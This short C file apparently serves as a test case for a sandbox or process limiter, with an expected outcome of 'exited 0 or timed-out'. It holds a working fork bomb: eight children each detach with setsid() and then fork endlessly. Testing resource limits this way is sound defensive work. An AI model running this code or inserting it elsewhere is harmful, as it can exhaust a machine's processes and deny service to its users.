// ending: exited 0 or timed-out
#include "attack.h"
int main(void) {
  for (int i = 0; i < 8; ++i) {
    if (fork() == 0) {
      setsid();
      while (1) fork();
    }
  }
  return 0;
}
